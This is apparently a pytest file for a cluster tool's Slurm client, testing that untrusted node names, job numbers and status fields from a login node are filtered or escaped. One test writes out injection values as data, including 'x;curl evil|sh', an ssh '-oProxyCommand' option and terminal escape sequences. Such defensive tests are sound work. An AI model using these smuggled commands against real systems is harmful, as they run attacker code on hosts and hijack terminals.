"""What a login node may send of a job's nodes."""

from __future__ import annotations

from typing import Any, ClassVar, cast

import pytest

from clusterctl.client import slurm
from clusterctl.client.rpc.frames import Frame, limits_for
from clusterctl.errors import NodeError
from clusterctl.protocol.untrusted import Untrusted


class FakeSession:
    """Keeps its limits, gives some frames, and ends."""

    limits: Any = None
    frames: ClassVar[list[Any]] = []

    def __init__(self, *_: object, limits: Any = None) -> None:
        FakeSession.limits = limits

    def __enter__(self) -> FakeSession:
        return self

    def __exit__(self, *_: object) -> None:
        pass

    def receive(self, *_: float) -> Frame | None:
        """Give the next frame; the last one again and again, if it is to have no end."""
        if not self.frames:
            return None
        frame = self.frames[0] if self.frames[1:] == [...] else self.frames.pop(0)
        return Untrusted(frame), b""

    def send(self, *_: object) -> None:
        """Drop it."""

    @property
    def stderr(self) -> str:
        """There is none."""
        return ""


LOGIN: Any = type("Login", (), {"__getattr__": lambda self, _: self, "__call__": lambda self, *_: self})()
SUBMISSION = slurm.Submission(cast("Any", {"check": {"only": True}}), [], "")


@pytest.fixture(autouse=True)
def _session(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(slurm, "Session", FakeSession)
    monkeypatch.setattr(slurm, "payload_zip", lambda: ("", b""))
    monkeypatch.setattr(slurm, "judge_zip", lambda: ("", b""))
    monkeypatch.setattr(FakeSession, "frames", [])


def member(name: object) -> dict[str, Any]:
    """Report a node without facts."""
    return {"member": {"node": name, "address": "10.0.0.1", "nics": []}, "facts": None}


def test_what_is_no_nodes_name_is_in_no_command() -> None:
    """A login node names the nodes of a check, and a name stands in commands that are pasted."""
    names = ["n1", "n1", "x;curl evil|sh", "\x1b[2J", "-oProxyCommand=x", None, "n2", "n3"]
    FakeSession.frames += map(member, names)
    found = [one[0]["node"] for one in slurm.gather_facts(LOGIN, SUBMISSION, 2) if isinstance(one, tuple)]
    assert found == ["n1", "n2"]
    evil = Untrusted(
        {"failure": {"node": "x;sh", "text": "t"}, "job": "\x1b]0;x\x07", "nodes": "\x1b[2J", "doing": "\x9b"}
    )
    state = slurm.parse_queue_state(evil)
    assert (state["job"], state["nodes"], state["doing"]) == ("", "\\x1b[2J", "\\x9b")
    assert state["failure"] is not None and state["failure"]["node"] == "?"


@pytest.mark.parametrize("frame", [{"need": "judge"}, {}, {"submitted": {"job": "\x1b]0;x\x07"}}])
def test_a_submission_that_is_never_answered_ends(frame: dict[str, Any]) -> None:
    """A login node may lack two zips; a number that is none is no answer."""
    FakeSession.frames += [frame, ...]
    with pytest.raises(NodeError) as caught:
        slurm.submit_job(LOGIN, SUBMISSION, {})
    assert caught.value.code == "CC-RUN-032"


@pytest.mark.parametrize(("number", "shown"), [("4711", "4711"), ("\x1b[2J", ""), ("4711\n", ""), ("", "")])
def test_the_number_of_a_cancelled_job_is_a_number(number: str, shown: str) -> None:
    """It is printed."""
    FakeSession.frames += [{"cancelled": {"job": number}}]
    assert slurm.cancel_job(LOGIN, "r", 1.0) == shown


def test_the_facts_of_a_node_may_be_as_large_as_over_ssh() -> None:
    """As those of a machine with many packages."""
    assert list(slurm.gather_facts(LOGIN, SUBMISSION, 1)) == []
    assert FakeSession.limits.frames.header == limits_for("probe").header
    assert FakeSession.limits.silence == slurm.SUBMIT_LIMIT
